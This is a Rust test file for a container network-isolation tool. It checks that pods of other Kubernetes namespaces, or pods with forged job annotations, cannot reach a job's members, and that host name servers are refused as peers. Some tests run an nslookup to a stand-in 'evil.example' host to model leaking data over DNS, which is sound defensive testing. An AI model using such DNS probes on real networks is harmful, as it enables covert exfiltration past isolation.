//! Jobs belong to a tenant, and a name server is never a peer.
//!
//! A bridge on the host, containers with namespaces of their own on it, and on the same bridge a name server
//! that answers for the internet.

use std::cell::RefCell;
use std::net::IpAddr;
use std::path::Path;
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use serde_json::{Value, json};

use test_support::bench::{Bench, isolated, mount, refused};
use test_support::command::{Finished, say, wait_for};
use test_support::findings::Findings;
use test_support::host::Kind;
use test_support::{dns, shim};

const CONTAINERD: &str = "io.kubernetes.cri.sandbox-namespace";
const CRIO: &str = "io.kubernetes.pod.namespace";
const JOB: &str = "io.oci-isolate.job";
const PEERS: &str = "io.oci-isolate.peers";

/// As containerd has it for pods, and Docker.
const PODS: &str = "k8s.io";
pub(crate) const DOCKER: &str = "moby";

const RESOLVER: &str = "10.77.0.53";

/// The page of a member, by name or address.
const FETCH: &str = "exec 3<>/dev/tcp/$0/80 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && grep inside <&3";

/// Annotations.
type Notes<'a> = &'a [(&'a str, &'a str)];

pub(crate) struct Net {
    pub(crate) bench: Bench,
    /// Containers that were created, each with its runtime and root.
    made: RefCell<Vec<(String, String, String)>>,
}

impl Net {
    pub(crate) fn new(kind: Kind) -> Self {
        let bench = Bench::of(kind);
        let script = "ip link add br0 type bridge; ip link set br0 up; ip addr add 10.77.0.1/24 dev br0
            ip netns add resolver; ip link add resolver type veth peer name eth0 netns resolver
            ip link set resolver up master br0; ip -n resolver link set lo up
            ip -n resolver addr add 10.77.0.53/24 dev eth0; ip -n resolver link set eth0 up";
        bench.host.sh(script).must();
        bench.host.settings(&format!("runtime = [{:?}]\n", kind.runtime()));
        Self { bench, made: RefCell::default() }
    }

    /// A namespace on the bridge, with an address that ends in `last`.
    pub(crate) fn plumb(&self, name: &str, last: u8) {
        let script = format!(
            "ip netns add {name}; ip link add {name} type veth peer name eth0 netns {name}
             ip link set {name} up master br0; ip -n {name} link set lo up
             ip -n {name} addr add 10.77.0.{last}/24 dev eth0; ip -n {name} link set eth0 up
             ip -n {name} route add default via 10.77.0.1"
        );
        self.bench.host.sh(&script).must();
    }

    /// A container in such a namespace. Its hosts file is where kubelet keeps a pod's.
    pub(crate) fn spec(&self, name: &str, host_name: &str, annotations: Notes, script: &str) -> Value {
        let mut spec = self.bench.spec(script);
        spec["hostname"] = json!(host_name);
        spec["linux"]["cgroupsPath"] = json!(format!("{}/{name}", self.bench.host.cgroup()));
        let namespaces = spec["linux"]["namespaces"].as_array_mut().unwrap();
        namespaces.retain(|namespace| namespace["type"] != "network");
        namespaces.push(json!({ "type": "network", "path": format!("/run/netns/{name}") }));
        let dir = self.bench.dir(&format!("pods/{name}"));
        std::fs::write(dir.join("etc-hosts"), "127.0.0.1 localhost\n").unwrap();
        mount(&mut spec, &dir.join("etc-hosts"), "/etc/hosts", &["bind", "rw"]);
        for (key, value) in annotations {
            spec["annotations"][key] = json!(value);
        }
        spec
    }

    /// Creates and starts a container that serves its page.
    pub(crate) fn start(&self, runtime: &Path, root: &str, name: &str, spec: &Value) -> Finished {
        self.start_after("true", runtime, root, name, spec)
    }

    /// The same with a command of the host between `create` and `start`.
    fn start_after(&self, between: &str, runtime: &Path, root: &str, name: &str, spec: &Value) -> Finished {
        let bundle = self.bench.dir(&format!("bundle-{name}"));
        std::fs::write(bundle.join("config.json"), spec.to_string()).unwrap();
        let (runtime, root) = (runtime.display().to_string(), self.bench.host.at(root));
        let (bundle, log) =
            (self.bench.host.at(&format!("bundle-{name}")), self.bench.host.at("created.log"));
        let script = format!(
            "{runtime} --root {root} create --bundle {bundle} {name} >{log} 2>&1 </dev/null \
             || {{ cat {log} >&2; exit 1; }}; {between}; {runtime} --root {root} start {name}"
        );
        let said = self.bench.host.sh(&script);
        self.made.borrow_mut().push((runtime, root, name.to_owned()));
        said
    }

    /// A container that serves its page, isolated, with these annotations besides.
    fn member(&self, root: &str, name: &str, last: u8, host_name: &str, annotations: Notes) -> Finished {
        self.plumb(name, last);
        let spec = isolated(&self.spec(name, host_name, annotations, "exec httpd -f -h /www"));
        self.start(&shim(), root, name, &spec)
    }

    pub(crate) fn exec(&self, name: &str, command: &[&str]) -> Finished {
        let made = self.made.borrow();
        let (runtime, root, _) = made.iter().find(|(.., made)| made == name).unwrap();
        say(self.bench.host.command(runtime).args(["--root", root, "exec", name]).args(command))
    }

    pub(crate) fn fetch(&self, from: &str, to: &str) -> Finished {
        self.exec(from, &["timeout", "3", "bash", "-c", FETCH, to])
    }

    /// The page, once the server has started.
    pub(crate) fn fetch_page(&self, from: &str, to: &str) -> Finished {
        let fetched = wait_for(Duration::from_secs(30), || Some(self.fetch(from, to)).filter(Finished::well));
        fetched.unwrap_or_else(|| self.fetch(from, to))
    }

    /// Runs `isolatectl` on the host.
    pub(crate) fn isolatectl(&self, args: &[&str]) -> Finished {
        let program = self.bench.host.dir().join("isolatectl");
        if !program.exists() {
            std::fs::copy(test_support::isolatectl(), &program).unwrap();
        }
        say(self.bench.host.command(program.to_str().unwrap()).args(args))
    }

    /// The name server on the bridge, and what it is asked.
    fn resolver(&self) -> Receiver<String> {
        let (tell, hear) = channel();
        let init =
            self.bench.host.sh("ip netns exec resolver sh -c 'sleep 1000 >/dev/null 2>&1 & echo $!'").must();
        // The pid is the host's own; its namespace is looked up there.
        let find = format!("readlink /proc/{init}/ns/net");
        let namespace = self.bench.host.sh(&find).must();
        let path = std::fs::read_dir("/proc").unwrap().flatten().map(|entry| entry.path().join("ns/net"));
        let is = |path: &std::path::PathBuf| {
            std::fs::read_link(path).is_ok_and(|link| link.to_string_lossy() == namespace)
        };
        let file = std::fs::File::open(path.into_iter().find(is).unwrap()).unwrap();
        let opener = std::thread::spawn(move || {
            nix::sched::setns(file, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
            dns::serve(RESOLVER.parse::<IpAddr>().unwrap(), &tell);
        });
        opener.join().unwrap();
        hear
    }
}

/// Containers run until they are deleted; the host's end would leave their records behind, which is no
/// matter here.
impl Drop for Net {
    fn drop(&mut self) {
        for (runtime, root, name) in self.made.borrow().iter() {
            drop(say(self.bench.host.command(runtime).args(["--root", root, "delete", "--force", name])));
        }
    }
}

#[test]
fn a_pod_of_another_namespace_is_in_no_job_of_this_one() {
    for kind in Kind::RUNTIMES {
        let net = Net::new(kind);
        let mut findings = Findings::default();
        // Bare, every container on the network reaches the page.
        for (name, last) in [("open", 2), ("other", 3)] {
            net.plumb(name, last);
            let spec = net.spec(name, name, &[(JOB, "train")], "exec httpd -f -h /www");
            net.start(kind.runtime(), PODS, name, &spec).must();
        }
        let said = net.fetch_page("other", "10.77.0.2");
        findings.claim(said.out == "inside", format!("{kind:?}: not open with the bare runtime: {said}"));

        // All of these are of a job called train; the last four have the name, or the namespace, of
        // another's.
        let of_a: Notes = &[(CONTAINERD, "team-a"), (JOB, "train")];
        let members: [(&str, &str, u8, &str, Notes); 6] = [
            (PODS, "victim", 10, "algo-2", of_a),
            (PODS, "mate", 11, "algo-1", of_a),
            (PODS, "thief", 12, "algo-2", &[(CRIO, "team-b"), (JOB, "train")]),
            (DOCKER, "forger", 13, "algo-2", of_a),
            (DOCKER, "imitator", 14, "algo-2", &[(JOB, "team-a/train")]),
            (DOCKER, "host", 15, "algo-1", &[(JOB, "train")]),
        ];
        for (root, name, last, host_name, annotations) in members {
            let said = net.member(root, name, last, host_name, annotations);
            findings.claim(said.well(), format!("{kind:?}: {name} does not start: {said}"));
        }
        for (from, to) in [("mate", "algo-2"), ("victim", "algo-1"), ("mate", "10.77.0.10")] {
            let said = net.fetch_page(from, to);
            findings.claim(said.out == "inside", format!("{kind:?}: {from} does not reach {to}: {said}"));
        }
        for from in ["thief", "forger", "imitator", "host"] {
            for to in ["10.77.0.10", "10.77.0.11"] {
                let said = net.fetch(from, to);
                findings.claim(
                    said.status == Some(1),
                    format!("{kind:?}: {from} reaches {to}, or waits: {said}"),
                );
            }
            let said = net.exec(from, &["cat", "/etc/hosts"]);
            findings
                .claim(said.out == "127.0.0.1 localhost", format!("{kind:?}: {from} knows names: {said}"));
            let said = net.isolatectl(&["peers", "show", from]);
            findings.claim(said.well() && said.out.is_empty(), format!("{kind:?}: {from} has peers: {said}"));
        }
        let shown = net.isolatectl(&["peers", "show", "victim"]);
        findings.claim(
            shown.out == "10.77.0.11  mate, of job train of namespace team-a",
            format!("{kind:?}: {shown}"),
        );
        for name in ["victim", "mate", "thief", "forger", "host", "imitator"] {
            let said = net.isolatectl(&["verify", name]);
            findings.claim(said.well(), format!("{kind:?}: {said}"));
        }
        // The same name within the namespace is an error still.
        let said = net.member(PODS, "twin", 16, "algo-2", of_a);
        findings.about("twin", refused(&said, "have the same host name, algo-2").err().into_iter().collect());
        findings.settle();
    }
}

#[test]
fn a_pod_that_claims_a_namespace_or_imitates_one_is_refused() {
    let net = Net::new(Kind::Machine);
    let mut findings = Findings::default();
    let cases: [(Notes, &str); 4] = [
        (
            &[(CRIO, "team-b"), (CONTAINERD, "team-a"), (JOB, "train")],
            "annotation io.oci-isolate.job: io.kubernetes.cri.sandbox-namespace is \"team-a\", \
             io.kubernetes.pod.namespace \"team-b\"; a pod has one namespace, drop what it sets itself",
        ),
        (
            &[(CONTAINERD, "team-b"), (JOB, "team-a/train")],
            "annotation io.oci-isolate.job: \"team-a/train\" has a slash, and a pod's job is one of its own namespace; \
             write the name alone",
        ),
        (
            &[("io.kubernetes.cri.container-type", "sandbox"), (JOB, "train")],
            "no annotation names the pod's namespace",
        ),
        (&[(CONTAINERD, "team-a/train"), (JOB, "x")], "is not a Kubernetes namespace"),
    ];
    net.plumb("pod", 2);
    for (annotations, words) in cases {
        let spec = net.spec("pod", "pod", annotations, "exec httpd -f -h /www");
        let bare = net.start(Kind::Machine.runtime(), PODS, "pod", &spec);
        findings.claim(bare.well(), format!("not open with the bare runtime: {bare}"));
        net.bench.host.sh(&format!("runc --root {} delete --force pod", net.bench.host.at(PODS))).must();
        let said = net.start(&shim(), PODS, "pod", &isolated(&spec));
        findings.about("isolated", refused(&said, words).err().into_iter().collect());
    }
    // What the settings name is in the pod's namespace too, and what is of no job is left alone.
    for (settings, annotation, words) in [
        ("[openings]\njob = \"team-a/train\"\n", (CONTAINERD, "team-b"), Some("has a slash")),
        ("", (CONTAINERD, "Not a name"), None),
    ] {
        let runtime = Kind::Machine.runtime();
        net.bench.host.settings(&format!("runtime = [{runtime:?}]\n{settings}"));
        let spec = net.spec("pod", "pod", &[annotation], "exec httpd -f -h /www");
        let said = net.start(&shim(), PODS, "pod", &isolated(&spec));
        match words {
            Some(words) => findings.about("settings", refused(&said, words).err().into_iter().collect()),
            None => findings.claim(said.well(), format!("a pod of no job: {said}")),
        }
    }
    findings.settle();
}

/// Where a name server is named.
const NAMED: [&str; 7] = [
    "nowhere",
    "/etc/resolv.conf",
    "/run/systemd/resolve/resolv.conf",
    "/run/NetworkManager/no-stub-resolv.conf",
    "/run/dnsmasq/resolv.conf",
    "a mount of the container",
    "the image",
];

#[test]
fn a_name_server_in_a_prefix_of_peers_answers_nobody() {
    for kind in Kind::RUNTIMES {
        let net = Net::new(kind);
        let mut findings = Findings::default();
        let asked = net.resolver();
        let named = format!("nameserver {RESOLVER}\n");
        for (at, place) in NAMED.into_iter().enumerate() {
            let stub = "nameserver 127.0.0.53\n";
            let script = "rm -rf /run/systemd/resolve /run/NetworkManager /run/dnsmasq; printf \"$0\" >/etc/resolv.conf
                [ \"$1\" = - ] || { mkdir -p \"${1%/*}\"; printf \"$2\" >\"$1\"; }";
            let file = if place.starts_with('/') { place } else { "-" };
            say(net.bench.host.command("sh").args(["-euc", script, stub, file, &named])).must();
            let image = if place == "the image" { &named } else { stub };
            std::fs::write(net.bench.host.dir().join("rootfs/etc/resolv.conf"), image).unwrap();
            for (how, name) in [("bare", format!("b{at}")), ("isolated", format!("i{at}"))] {
                let last = u8::try_from(100 + 2 * at + usize::from(how == "isolated")).unwrap();
                net.plumb(&name, last);
                let script = format!("nslookup {name}.evil.example {RESOLVER}; true");
                let mut spec = net.spec(&name, &name, &[(PEERS, "10.77.0.0/24")], &script);
                if place == "a mount of the container" {
                    let file = net.bench.dir("mounted").join("resolv.conf");
                    std::fs::write(&file, &named).unwrap();
                    mount(&mut spec, &file, "/etc/resolv.conf", &["bind", "ro"]);
                }
                let said = if how == "bare" { net.bench.open(&spec) } else { net.bench.closed(&spec) };
                findings.claim(said.well(), format!("{kind:?}, {place}: {how}: {said}"));
                let heard = asked.try_iter().any(|question| question.contains(&format!("{name}.evil")));
                // What is named nowhere is a peer as others are: nothing but the rule keeps the others out.
                let answers = how == "bare" || place == "nowhere";
                findings.claim(
                    heard == answers,
                    format!("{kind:?}, named by {place}, {how}: asked is {heard}: {said}"),
                );
            }
        }
        findings.settle();
    }
}

#[test]
fn a_name_server_is_refused_as_a_peer_and_as_a_member() {
    for kind in [Kind::Machine, Kind::MachineForCrun] {
        let net = Net::new(kind);
        let mut findings = Findings::default();
        net.bench
            .host
            .sh("printf 'nameserver 10.77.0.53\\nnameserver 10.77.0.20\\n' >/etc/resolv.conf")
            .must();
        let asks = |peers: &'static str| [(PEERS, peers)];
        let said = net.member(DOCKER, "one", 2, "one", &asks("10.77.0.3, 10.77.0.53"));
        findings.about(
            "peer",
            refused(&said, "peer 10.77.0.53 is a name server of the host").err().into_iter().collect(),
        );

        let said = net.member(DOCKER, "two", 3, "two", &asks("10.77.0.0/24"));
        findings.claim(said.well(), format!("a prefix with a name server: {said}"));
        let said = net.isolatectl(&["peers", "add", "two", "10.77.0.53"]);
        findings.claim(said.well(), format!("within a prefix that leaves it out: {said}"));
        let said = net.isolatectl(&["peers", "set", "two", "10.77.0.53"]);
        findings.about(
            "peers set",
            refused(&said, "peer 10.77.0.53 is a name server of the host").err().into_iter().collect(),
        );

        net.plumb("three", 4);
        let mut spec = net.spec("three", "three", &asks("10.77.0.54"), "exec httpd -f -h /www");
        let file = net.bench.dir("mounted").join("resolv.conf");
        std::fs::write(&file, "nameserver 10.77.0.54\n").unwrap();
        mount(&mut spec, &file, "/etc/resolv.conf", &["bind", "ro"]);
        let said = net.start(&shim(), DOCKER, "three", &isolated(&spec));
        let words = "peer 10.77.0.54 is a name server of the container (its /etc/resolv.conf)";
        findings.about("own", refused(&said, words).err().into_iter().collect());
        // As Docker does, which writes the file when it has plumbed.
        std::fs::write(&file, "nameserver 10.77.0.9\n").unwrap();
        net.bench.host.sh("ip netns del three").must();
        net.plumb("late", 5);
        let mut spec = net.spec("late", "late", &asks("10.77.0.54"), "exec httpd -f -h /www");
        mount(&mut spec, &file, "/etc/resolv.conf", &["bind", "ro"]);
        let between = format!("echo nameserver 10.77.0.54 >{}", file.display());
        let said = net.start_after(&between, &shim(), DOCKER, "late", &isolated(&spec));
        findings.about("written late", refused(&said, words).err().into_iter().collect());

        let said = net.member(DOCKER, "four", 20, "four", &[(JOB, "train")]);
        let words =
            "its address 10.77.0.20 is a name server of the host, so no member of the job could have it";
        findings.about("member", refused(&said, words).err().into_iter().collect());
        findings.settle();
    }
}
